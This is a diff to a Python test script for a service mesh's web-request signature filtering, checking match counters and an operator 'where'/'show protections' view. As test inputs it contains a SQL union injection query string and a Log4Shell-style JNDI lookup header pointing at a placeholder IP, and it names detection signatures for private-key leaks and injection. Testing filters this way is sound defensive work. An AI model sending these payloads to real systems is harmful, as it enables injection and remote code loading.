@@ -191,6 +191,32 @@ passes("/?count-me")
 assert told()["signature"] == "", told()
 assert counted("signatures_noted") == noted + 2
 
+# What an operator sees of it: what a request would meet, which counts nothing, and what was found.
+def found(signature):
+    policy, _, name = signature.partition(" ")
+    return mesh.metric("weft_signatures_found_total", policy=policy, signature=name)
+
+
+hits = {name: found(name) for name in ("default/own noted", "default/own counted", "default/own forbidden",
+                                       "istio-system/starter leak-private-key", "istio-system/starter sqli-union-target")}
+assert list(hits.values()) == [1, 1, 9, 2, 2], hits
+asked_of = mesh.ctl("where", "GET", f"http://{WEB}/?id=1+union+select+1&note-me")
+assert asked_of["inspected_by"] == "default/own (Enforce), istio-system/starter (Enforce)", asked_of
+assert (asked_of["status"], asked_of["flags"]) == (403, "SIG"), asked_of
+assert {(row["signature"], row["outcome"]) for row in asked_of["signatures"]} == {
+    ("default/own noted", "noted in the access record"), ("istio-system/starter sqli-union-target", "denied with 403")}, asked_of
+asked_of = mesh.ctl("where", "GET", f"http://{WEB}/", "header", "x-api: ${jndi:ldap://203.0.113.1/a}")
+assert [row["signature"] for row in asked_of["signatures"]] == ["istio-system/starter jndi-header"], asked_of
+assert "status" not in mesh.ctl("where", "GET", f"http://{WEB}/?note-me")
+assert hits == {name: found(name) for name in hits}, "a question is no request"
+print(mesh.text("where", "GET", f"http://{WEB}/?id=1+union+select+1&note-me"))
+row, = mesh.ctl("show", "protections", "web")
+assert row["inspected_by"] == "default/own (Enforce), istio-system/starter (Enforce)", row
+assert row["signatures_found_most"].startswith("default/own forbidden 9, ") and row["signatures_found"] == sum(
+    value for (family, _), value in mesh.metrics().items() if family == "weft_signatures_found_total"), row
+print(mesh.text("show", "protections", "web"))
+assert mesh.metric("weft_inspection_sets") == 1
+
 # A policy that changes.
 mesh.update("own.yaml", own({"name": "other", "part": "Body", "literal": "other-words"}))
 passes("/post", "--data-binary", "some forbidden-words here")
